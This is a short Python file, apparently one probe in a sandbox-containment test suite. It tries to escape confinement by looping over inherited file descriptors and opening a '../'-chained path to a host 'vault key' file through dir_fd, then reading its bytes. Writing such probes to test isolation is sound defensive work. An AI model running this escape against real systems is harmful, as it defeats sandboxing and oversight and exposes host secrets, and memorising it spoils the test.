"""Wants a folder that was open when it was born, to climb out of. Success: a file of the host through it."""

import os

from outside import VAULT_KEY, attempt


def method(problem):
    def climb():
        for descriptor in range(3, 4096):
            try:
                return os.pread(os.open(("../" * 20) + VAULT_KEY.lstrip("/"), os.O_RDONLY, dir_fd=descriptor), 200, 0)
            except OSError:
                continue
        return False

    return attempt(problem, climb)
